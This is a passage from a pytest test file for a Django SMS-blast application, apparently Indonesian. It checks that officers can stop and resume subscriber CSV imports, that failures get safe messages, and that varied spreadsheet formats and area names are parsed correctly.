    response = client.post(f"/api/v1/subscribers/imports/{job.pk}/resume/")
    assert response.status_code == 202, response.content
    event = AuditEvent.objects.filter(action="subscriber_import.resume").get()
    assert (event.from_state, event.to_state) == ("running", "pending")

    import_task(job.pk)
    job.refresh_from_db()
    assert (job.state, job.rows_read, job.created) == ("completed", 7, 7)
    assert Subscriber.objects.count() == 7


def test_an_officer_stops_an_import_of_a_wrong_file_and_its_worker_writes_nothing_more(
    tmp_path, areas, monkeypatch, api_client_for, officer
):
    monkeypatch.setattr(services, "IMPORT_CHUNK", 2)
    path = write(tmp_path, "msisdn\n" + "\n".join(f"08123456{i:04d}" for i in range(7)) + "\n")
    job = services.subscriber_import_create_from_path(path=path, user=officer)
    stops = []

    def stopped_after_the_first_chunk(message):  # the officer presses Stop while the worker reads on
        if not stops:
            stops.append(api_client_for(officer).post(f"/api/v1/subscribers/imports/{job.pk}/stop/"))

    stopped = services.subscriber_import_run(subscriber_import=job, progress=stopped_after_the_first_chunk)

    assert stops[0].status_code == 200, stops[0].content
    assert stops[0].json()["state"] == "stopped"
    assert (stopped.state, stopped.error, stopped.created, stopped.lines_done) == ("stopped", "", 2, 3)
    assert Subscriber.objects.count() == 2  # the chunk being written when it was stopped is not
    event = AuditEvent.objects.get(action="subscriber_import.stop")
    assert (event.actor_id, event.from_state, event.to_state) == (officer.pk, "running", "stopped")

    resumed = services.subscriber_import_run(subscriber_import=stopped)  # resuming goes on after the saved chunk
    assert (resumed.state, resumed.created) == ("completed", 7)


def test_a_pending_import_stopped_on_its_page_is_not_started_by_its_queued_task(
    tmp_path, areas, client, officer, api_client_for
):
    job = services.subscriber_import_create_from_path(path=write(tmp_path, "msisdn\n081234567890\n"), user=officer)
    client.force_login(officer)
    assert "Hentikan impor" in client.get(reverse("subscriber_import", args=[job.pk])).content.decode()

    page = client.post(reverse("subscriber_import_stop", args=[job.pk]), follow=True).content.decode()

    assert "Impor dihentikan" in page
    import_task(job.pk)
    job.refresh_from_db()
    assert (job.state, job.error) == ("stopped", "")
    assert not Subscriber.objects.exists()
    # Only an import still under way can be stopped.
    response = api_client_for(officer).post(f"/api/v1/subscribers/imports/{job.pk}/stop/")
    assert response.status_code == 409
    assert "Only a pending or running import can be stopped" in response.json()["detail"]


def test_a_stopped_import_is_shown_as_stopped_not_failed_and_resumes_from_its_page(
    tmp_path, areas, monkeypatch, client, officer, api_client_for
):
    monkeypatch.setattr(services, "IMPORT_CHUNK", 2)
    path = write(tmp_path, "msisdn\n" + "\n".join(f"08123456{i:04d}" for i in range(5)) + "\n")
    job = services.subscriber_import_create_from_path(path=path, user=officer)

    def stopped_after_the_first_chunk(message):
        if job.state != "stopped":
            services.subscriber_import_stop(subscriber_import=job, actor=officer)

    services.subscriber_import_run(subscriber_import=job, progress=stopped_after_the_first_chunk)
    client.force_login(officer)

    page = client.get(reverse("subscriber_import", args=[job.pk])).content.decode()
    assert "Status: <b>dihentikan</b>" in page
    assert "gagal" not in page and 'class="msg error"' not in page
    assert "Dihentikan oleh petugas setelah baris 3" in page
    listed = client.get(reverse("subscribers")).content.decode()
    assert "dihentikan" in listed and "gagal" not in listed
    detail = api_client_for(officer).get(f"/api/v1/subscribers/imports/{job.pk}/").json()
    assert (detail["state"], detail["error"], detail["created"]) == ("stopped", "", 2)
    assert (
        api_client_for(officer).post(f"/api/v1/subscribers/imports/{job.pk}/stop/").status_code == 409
    )  # already stopped

    resumed = client.post(reverse("subscriber_import_resume", args=[job.pk]), follow=True).content.decode()
    assert "Impor dilanjutkan setelah baris 3" in resumed
    job.refresh_from_db()
    assert job.state == "pending"
    event = AuditEvent.objects.get(action="subscriber_import.resume")
    assert (event.from_state, event.to_state) == ("stopped", "pending")
    assert services.subscriber_import_run(subscriber_import=job).created == 5


def test_a_stopped_import_resumes_through_the_api_and_the_command(tmp_path, areas, api_client_for, officer, capsys):
    path = write(tmp_path, "msisdn\n081234567890\n081234567891\n")
    first = services.subscriber_import_create_from_path(path=path, user=officer)
    second = services.subscriber_import_create_from_path(path=path, user=officer)
    for job in (first, second):
        services.subscriber_import_stop(subscriber_import=job, actor=officer)

    response = api_client_for(officer).post(f"/api/v1/subscribers/imports/{first.pk}/resume/")
    assert response.status_code == 202, response.content
    assert response.json()["state"] == "pending"

    call_command("import_subscribers", "--resume", str(second.pk))
    second.refresh_from_db()
    assert (second.state, second.created + second.updated) == ("completed", 2)


def test_the_command_says_an_import_was_stopped_by_an_officer_and_how_to_go_on(tmp_path, areas, officer):
    from django.core.management.base import CommandError

    path = write(tmp_path, "msisdn\n081234567890\n")
    real_read = services._subscriber_import_read

    def stopped_while_read(job, say):  # the officer presses Stop on its page while the command reads the file
        services.subscriber_import_stop(subscriber_import=job, actor=officer)
        return real_read(job, say)

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(services, "_subscriber_import_read", stopped_while_read)
        with pytest.raises(CommandError) as refused:
            call_command("import_subscribers", str(path))

    job = SubscriberImport.objects.get()
    assert job.state == "stopped"
    assert str(refused.value) == (
        f"Import #{job.pk} was stopped by an officer after line 0; rerun with --resume {job.pk} to go on."
    )


def test_an_import_deleted_in_the_admin_while_the_command_runs_it_ends_saying_so(tmp_path, areas, monkeypatch):
    from django.core.management.base import CommandError

    monkeypatch.setattr(services, "IMPORT_CHUNK", 2)
    path = write(tmp_path, "msisdn\n" + "\n".join(f"08123456{i:04d}" for i in range(7)) + "\n")

    class DeletedOnProgress(io.StringIO):
        def write(self, text):
            if " rows: " in text:
                SubscriberImport.objects.all().delete()
            return super().write(text)

    with pytest.raises(CommandError, match=r"^Import #\d+ was deleted while it ran\.$"):
        call_command("import_subscribers", str(path), stdout=DeletedOnProgress())
    assert Subscriber.objects.count() == 2  # the chunk saved before stays; the one being written is not


def test_an_import_whose_file_changed_since_it_began_is_not_resumed_past_lines_that_now_hold_other_rows(
    tmp_path, areas, monkeypatch, api_client_for, client, officer
):
    """Resuming skips the lines done by count: in an edited file those are other rows, which would never be read."""
    from django.core.management.base import CommandError

    job = _failed_import(tmp_path, monkeypatch)
    path = Path(job.file_path)
    before = path.stat().st_mtime_ns
    path.write_text("msisdn\n" + "\n".join(f"08129999{i:04d}" for i in range(7)) + "\n")  # as long, other numbers
    os.utime(path, ns=(before + 10**9, before + 10**9))

    with pytest.raises(CommandError, match=rf"^The file of import #{job.pk} changed since the import began"):
        call_command("import_subscribers", "--resume", str(job.pk), "--force", stdout=io.StringIO())
    response = api_client_for(officer).post(f"/api/v1/subscribers/imports/{job.pk}/resume/")
    assert response.status_code == 409
    assert "changed since the import began" in response.json()["detail"]
    client.force_login(officer)
    page = client.post(reverse("subscriber_import_resume", args=[job.pk]), follow=True).content.decode()
    assert "Berkas impor ini berubah sejak impor dimulai" in page

    job.refresh_from_db()
    assert (job.state, job.created, job.lines_done) == ("failed", 3, 4)
    assert Subscriber.objects.count() == 3


# Outside a test transaction, so on PostgreSQL the chunks commit on the import's writer thread.
@pytest.mark.django_db(transaction=True)
def test_a_run_whose_import_was_taken_over_commits_nothing_more(tmp_path, areas, monkeypatch):
    monkeypatch.setattr(services, "IMPORT_CHUNK", 3)
    path = write(tmp_path, "msisdn\n" + "\n".join(f"08123456{i:04d}" for i in range(7)) + "\n")
    job = services.subscriber_import_create_from_path(path=path, user=None)

    def taken_over_after_the_first_chunk(message):  # judged dead, resumed and claimed by another run
        SubscriberImport.objects.filter(pk=job.pk).update(started_at=timezone.now() + timedelta(seconds=1))

    stopped = services.subscriber_import_run(subscriber_import=job, progress=taken_over_after_the_first_chunk)

    assert (stopped.state, stopped.created, stopped.lines_done) == ("running", 3, 4)  # left to the other run
    assert Subscriber.objects.count() == 3
    assert not AuditEvent.objects.filter(action__in=["subscriber_import.fail", "subscriber_import.complete"]).exists()


# Outside a test transaction, so on PostgreSQL the chunks commit on the import's writer thread.
@pytest.mark.django_db(transaction=True)
def test_a_run_judged_dead_that_reads_on_after_a_resume_leaves_the_rejected_rows_as_the_new_run_wrote_them(
    tmp_path, areas, monkeypatch, settings, media_root
):
    monkeypatch.setattr(services, "IMPORT_CHUNK", 3)
    numbers = [f"08123456{i:04d}" for i in range(9)]
    # Line 5 names an area loaded only after the first run began; lines 9 and 13 are not numbers.
    lines = ["msisdn,kode_wilayah", *numbers[:3], "081299990000,35.05.03", *numbers[3:6], "bad1", *numbers[6:], "bad2"]
    job = services.subscriber_import_create_from_path(path=write(tmp_path, "\n".join(lines) + "\n"), user=None)
    taken_over = []

    def resumed_and_completed_by_another_worker(message):
        if taken_over:
            return
        taken_over.append(True)
        AreaFactory(code="35.05.03", name="Srengat")
        SubscriberImport.objects.filter(pk=job.pk).update(
            heartbeat_at=timezone.now() - timedelta(seconds=settings.SUBSCRIBER_IMPORT_STALE_SECONDS + 1)
        )
        resumed = services.subscriber_import_resume(
            subscriber_import=SubscriberImport.objects.get(pk=job.pk), actor=None
        )
        assert services.subscriber_import_run(subscriber_import=resumed).state == "completed"

    # The first run goes on reading after it was replaced (it still rejects line 5) until its next commit fails.
    services.subscriber_import_run(subscriber_import=job, progress=resumed_and_completed_by_another_worker)

    job.refresh_from_db()
    assert (job.state, job.created, job.rejected, rejected_rows(job)) == (
        "completed",
        10,
        2,
        [(9, "invalid"), (13, "invalid")],
    )
    with open(job.rejected_path, encoding="utf-8-sig", newline="") as handle:
        assert list(csv.reader(handle)) == [
            ["line", "reason", "raw"],
            ["9", "invalid", "bad1"],
            ["13", "invalid", "bad2"],
        ]
    assert sorted((media_root / "imports").iterdir()) == [Path(job.rejected_path)]  # the replaced run's file is gone


@pytest.mark.parametrize(
    ("error", "message"),
    [
        (OSError(28, "No space left on device", "/srv/smsblast/media/imports/7-rejected.csv"), "IMPORT_FAILED_FILE"),
        (
            OperationalError('could not extend file "base/16384/2619"\nCONTEXT: INSERT INTO smsblast_subscriber'),
            "IMPORT_FAILED_DATABASE",
        ),
        (InterfaceError("connection already closed"), "IMPORT_FAILED_DATABASE"),
        (KeyError("/srv/smsblast/smsblast/services.py"), "IMPORT_FAILED"),
    ],
)
def test_a_failed_import_tells_what_failed_and_what_to_do_and_logs_the_exception_for_administrators(
    tmp_path, areas, monkeypatch, api_client_for, client, officer, caplog, error, message
):
    def write_chunk(self, rows):
        raise error

    monkeypatch.setattr(services._SubscriberWriter, "write", write_chunk)
    api = api_client_for(officer)
    job_id = upload(api, b"msisdn\n081234567890\n").json()["id"]
    import_task(job_id)

    detail = api.get(f"/api/v1/subscribers/imports/{job_id}/").json()
    assert (detail["state"], detail["error"]) == ("failed", getattr(services, message))
    client.force_login(officer)
    page = client.get(f"/subscribers/imports/{job_id}/").content.decode()
    with translation.override("id"):  # the page's language
        assert escape(translation.gettext(getattr(services, message))) in page
    for shown in [str(detail), page, str(AuditEvent.objects.filter(action="subscriber_import.fail").get().details)]:
        assert "/srv/" not in shown and "INSERT" not in shown and "base/16384" not in shown
    logged = [record for record in caplog.records if record.exc_info and record.exc_info[1] is error]
    assert len(logged) == 1 and f"import {job_id}" in logged[0].getMessage()


def test_a_failed_import_whose_file_is_gone_cannot_be_resumed(tmp_path, areas, monkeypatch, api_client_for, officer):
    job = _failed_import(tmp_path, monkeypatch)
    Path(job.file_path).unlink()
    response = api_client_for(officer).post(f"/api/v1/subscribers/imports/{job.pk}/resume/")
    assert response.status_code == 409
    assert "upload it again" in response.json()["detail"]
    job.refresh_from_db()
    assert job.state == "failed"


def test_a_utf16_file_as_excel_saves_unicode_text_is_imported(tmp_path, areas):
    text = (
        "No. HP\tNama\tKode Wilayah\r\n"
        "0812-3456-7890\tSiti Rahayu\t35.05.01\r\n"
        "0812 3456 7891\tJosé\t3505\r\n"
        "abc\tX\t\r\n"
    )
    job = run_import(write(tmp_path, text, encoding="utf-16"))

    assert (job.state, job.created, job.rejected) == ("completed", 2, 1)
    assert rejected_rows(job) == [(4, "invalid")]
    assert list(Subscriber.objects.order_by("msisdn").values_list("msisdn", "name", "area_id")) == [
        ("+6281234567890", "Siti Rahayu", "35.05.01"),
        ("+6281234567891", "José", "35.05"),
    ]


def test_a_utf16_file_with_only_its_byte_order_mark_is_refused_as_empty(api_client_for, officer, media_root):
    response = upload(api_client_for(officer), "\r\n".encode("utf-16"))

    assert response.status_code == 400
    assert "empty" in response.json()["detail"]


def test_an_area_named_by_a_name_borne_by_one_area_is_taken_and_a_shared_name_is_refused(tmp_path, areas):
    AreaFactory(code="35.06", name="Kabupaten Kediri")
    AreaFactory(code="35.06.01", name="Wonodadi")  # the same name as 35.05.01
    text = "nomor;wilayah\n081234567890;Kab. Blitar\n081234567891;udanawu\n081234567892;Wonodadi\n0812345678;Atlantis\n"
    job = run_import(write(tmp_path, text))

    assert (job.created, rejected_rows(job)) == (2, [(4, "unknown_area"), (5, "unknown_area")])
    assert list(Subscriber.objects.order_by("msisdn").values_list("msisdn", "area_id")) == [
        ("+6281234567890", "35.05"),
        ("+6281234567891", "35.05.02"),
    ]


def test_a_nomor_or_kode_column_beside_a_more_specific_one_is_not_taken_for_the_number_or_area(tmp_path, areas):
    text = "Nomor;Kode;Nama;No. HP;Kode Wilayah\n1;A-17;Budi;0812-3456-7890;35.05.01\n2;A-18;Siti;0812 3456 7891;\n"
    job = run_import(write(tmp_path, text))

    assert (job.created, job.rejected) == (2, 0)
    assert list(Subscriber.objects.order_by("msisdn").values_list("msisdn", "area_id", "name")) == [
        ("+6281234567890", "35.05.01", "Budi"),
        ("+6281234567891", None, "Siti"),
    ]


def test_a_comma_inside_a_quoted_header_does_not_make_a_semicolon_file_comma_separated(tmp_path, areas):
    text = 'Nama;"Alamat, Kota, Kode Pos";No HP\n"Budi, S.Kom";"Jl. Merdeka 1, Blitar, 66111";0812-3456-7890\n'
    job = run_import(write(tmp_path, text))

    assert (job.created, job.rejected) == (1, 0)
    assert list(Subscriber.objects.values_list("msisdn", "name")) == [("+6281234567890", "Budi, S.Kom")]


@pytest.mark.parametrize(
    "header",
    ["Nama, Gelar;No HP", "Nama (Lengkap, Gelar, Marga);No HP", "Nama, Gelar\tNo HP"],
    ids=["as-many-commas", "more-commas", "tab"],
)
def test_commas_unquoted_in_the_header_of_a_semicolon_or_tab_file_do_not_make_it_comma_separated(
    tmp_path, areas, header
):
    """A spreadsheet set to Indonesian quotes a cell holding its separator (;), not one holding a comma."""
    separator = "\t" if "\t" in header else ";"
    job = run_import(write(tmp_path, f"{header}\nBudi, S.Kom{separator}0812-3456-7890\n"))

    assert (job.created, job.rejected) == (1, 0)
    assert list(Subscriber.objects.values_list("msisdn", flat=True)) == ["+6281234567890"]


@pytest.mark.parametrize(
    ("cell", "language"),
    [("Indonesian", "id"), ("Bahasa Indonesia", "id"), ("ID", "id"), ("English", "en"), ("Inggris", "en")],
)
def test_a_language_written_out_in_either_language_is_read(tmp_path, areas, cell, language):
    job = run_import(write(tmp_path, f"nomor,bahasa\n081234567890,{cell}\n"))

    assert (job.created, job.rejected) == (1, 0)
    assert Subscriber.objects.get().language == language


def test_the_rejected_rows_download_is_documented_as_csv(api_client_for, officer, areas):
    from tests.schema_check import answer_mismatches

    client = api_client_for(officer)
    job_id = upload(client, b"msisdn,area\n12,35.05.01\n").json()["id"]
    import_task(job_id)
    schema = client.get("/api/v1/schema/", {"format": "json"}).json()
    answer = client.get(f"/api/v1/subscribers/imports/{job_id}/rejected.csv")
    assert answer.status_code == 200
    assert answer_mismatches(schema, "/api/v1/subscribers/imports/{id}/rejected.csv", "get", answer) == []


def test_an_upload_whose_task_never_reached_a_worker_is_queued_again_by_beat_and_completes_unattended(
    api_client_for, officer, areas, media_root, settings, django_capture_on_commit_callbacks
):
    from smsblast.tasks import subscriber_imports_redrive

    client = api_client_for(officer)
    with django_capture_on_commit_callbacks(execute=False):  # the broker was down: its task was never sent
        lost = upload(client, b"msisdn;kode_wilayah\n0812 3456 7890;35.05.01\n").json()["id"]
        waiting = upload(client, b"msisdn;kode_wilayah\n0812 3456 7891;35.05.01\n").json()["id"]
        died = upload(client, b"msisdn;kode_wilayah\n0812 3456 7892;35.05.01\n").json()["id"]
    silent = timezone.now() - timedelta(seconds=settings.SUBSCRIBER_IMPORT_STALE_SECONDS + 1)
    SubscriberImport.objects.filter(pk=lost).update(heartbeat_at=silent)
    # A worker that died half-way through a file is its officer's to resume: the file may be what killed it.
    SubscriberImport.objects.filter(pk=died).update(state=SubscriberImport.State.RUNNING, heartbeat_at=silent)

    with django_capture_on_commit_callbacks(execute=False) as queued:
        subscriber_imports_redrive()

    assert len(queued) == 1
    assert dict(SubscriberImport.objects.values_list("pk", "state")) == {
        lost: "pending",
        waiting: "pending",
        died: "running",
    }
    event = AuditEvent.objects.filter(action="subscriber_import.resume").get()
    assert (event.object_id, event.actor_id) == (str(lost), None)
    import_task(lost)  # as the worker does, given the task
    assert SubscriberImport.objects.get(pk=lost).state == "completed"
    assert Subscriber.objects.filter(msisdn="+6281234567890").exists()
